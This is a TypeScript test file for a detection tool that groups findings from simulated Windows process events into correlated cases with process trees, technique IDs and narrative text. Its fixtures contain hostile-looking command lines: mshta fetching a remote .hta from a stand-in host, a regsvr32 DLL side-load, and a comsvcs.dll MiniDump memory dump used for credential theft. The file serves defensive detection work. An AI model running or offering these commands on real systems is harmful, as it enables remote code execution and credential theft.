import { describe, expect, it } from "vitest";
import { file, load, PUBLIC, S32, start } from "../../../test/support/chains/story.ts";
import { testCatalog } from "../../../test/support/events.ts";
import { fromPlain, toPlain } from "../../events/plain.ts";
import type { Case } from "../../model/case.ts";
import type { Event } from "../../model/event.ts";
import { createDetector } from "../detector.ts";
import { CaseBuilder, type CasesState } from "./builder.ts";

function casesOf(events: readonly Event[], restart = false): Case[] {
  const detector = createDetector({ catalog: testCatalog(), traces: true });
  let builder = new CaseBuilder();
  const cases: Case[] = [];
  for (const finding of [...events.flatMap((event) => detector.push(event)), ...detector.end()]) {
    const trace = detector.traceOf(finding);
    if (trace) cases.push(...builder.add(finding, trace));
    if (!restart) continue;
    const state = JSON.parse(JSON.stringify(builder.save())) as CasesState;
    builder = new CaseBuilder();
    builder.restore(state);
  }
  return [...cases, ...builder.finish()];
}

/** The same events on another host, hours later. */
const elsewhere = (events: readonly Event[], host: string, hours = 0): Event[] =>
  events.map((event) => {
    const { values, ...rest } = toPlain(event);
    return fromPlain({ ...rest, values: { ...values, host, time: (values.time as number) + hours * 3_600_000 } });
  });

const intrusion = [
  start(0, "W", "C:\\Office\\winword.exe", "winword.exe invoice.docm", "X", "explorer.exe"),
  start(2, "M", "mshta.exe", "mshta.exe https://files.example.net/a.hta", "W", "C:\\Office\\winword.exe"),
  file(4, "M", "mshta.exe", `${PUBLIC}a.dll`),
  start(6, "R", "regsvr32.exe", `regsvr32 /s ${PUBLIC}a.dll`, "M"),
  load(7, "R", "regsvr32.exe", `${PUBLIC}a.dll`),
];

describe("cases", () => {
  it("join what one process started, as a story with its tree", () => {
    const [one, ...more] = casesOf(intrusion);
    expect(more).toEqual([]);
    expect(one).toMatchObject({ schema: "whatran/case/1", host: "PC1", level: "critical", linked: [] });
    expect(one?.findings).toHaveLength(2);
    expect(one?.techniques).toEqual(expect.arrayContaining(["T1218.005", "T1218.010"]));
    expect(one?.text).toMatch(/^On PC1, on 2024-05-02 \(UTC\).*: 09:00:02 mshta\.exe .*09:00:06 regsvr32\.exe /);
    const [root] = one?.tree ?? [];
    const names = (at: typeof root): unknown[] => [at?.image?.split("\\").at(-1), ...(at?.children ?? []).map(names)];
    expect(names(root)).toEqual(["winword.exe", ["mshta.exe", ["regsvr32.exe"]]]);
  });

  it("join what uses the same file, though nothing else ties it", () => {
    const later = start(3000, "T", "rundll32.exe", `rundll32 ${PUBLIC}a.dll,Go`, "Y", "svchost.exe");
    const [one, ...more] = casesOf([...intrusion, later]);
    expect(more).toEqual([]);
    expect(one?.findings).toHaveLength(3);
  });

  it("join what leaves the same file, though nothing else ties it", () => {
    const dump = (at: number, key: string) =>
      start(at, key, "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 612 C:\\Windows\\Temp\\x.dmp full", key, "a.exe");
    const [one, ...more] = casesOf([dump(0, "A"), dump(900, "B")]);
    expect(more).toEqual([]);
    expect(one?.findings).toHaveLength(2);
  });

  it("leave apart what only the desktop has in common, and what lies days apart", () => {
    const apart = start(60, "S", "regsvr32.exe", "regsvr32 /s C:\\ProgramData\\other.dll", "X", "explorer.exe");
    expect(casesOf([...intrusion, apart])).toHaveLength(2);
    const again = start(72 * 3600, "Q", "regsvr32.exe", `regsvr32 /s ${PUBLIC}a.dll`, "Z", "cmd.exe");
    expect(casesOf([...intrusion, again])).toHaveLength(2);
  });

  it("name cases on other hosts with the same payload", () => {
    const cases = casesOf([...intrusion, ...elsewhere(intrusion, "PC2.example.net", 1)]);
    expect(cases.map(({ host }) => host)).toEqual(["PC1", "PC2.example.net"]);
    expect(cases[0]?.linked).toEqual([
      expect.objectContaining({ id: cases[1]?.id, host: "PC2.example.net", by: "payload" }),
    ]);
    expect(cases[1]?.linked).toEqual([expect.objectContaining({ id: cases[0]?.id })]);
    expect(cases[0]?.text).toContain("The same payload was seen on PC2.example.net.");
  });

  it("tell once what a chain says that no invocation carries", () => {
    const [one] = casesOf([
      start(0, "C", "C:\\Windows\\Installer\\MSIA1.tmp", "MSIA1.tmp", "M", "msiexec.exe"),
      start(1, "D", "cmd.exe", "cmd.exe", "C"),
    ]);
    expect(one?.text.match(/did what no setup needs/g)).toHaveLength(1);
    expect(one?.text).toMatch(/did what no setup needs.*: msiexec\.exe started /);
  });

  it("tell once what happened again and again", () => {
    const again = [0, 5, 9].map((second) =>
      start(second, `N${second}`, "regsvr32.exe", `regsvr32 /s ${PUBLIC}a.dll`, "P", "cmd.exe"),
    );
    const [one, ...more] = casesOf(again);
    expect(more).toEqual([]);
    expect(one?.findings).toHaveLength(3);
    expect(one?.text).toMatch(/ \(3 times, until 09:00:09\)\./);
    expect(one?.text.match(/calls DllRegisterServer/g)).toHaveLength(1);
  });

  it("are the same when saved and restored between findings", () => {
    const events = [...intrusion, ...elsewhere(intrusion, "PC2", 1)];
    expect(casesOf(events, true)).toEqual(casesOf(events));
  });

  it("are none where nothing is medium", () => {
    expect(casesOf([start(0, "R", "rundll32.exe", `rundll32 ${S32}shell32.dll,OpenAs_RunDLL x`)])).toEqual([]);
  });
});
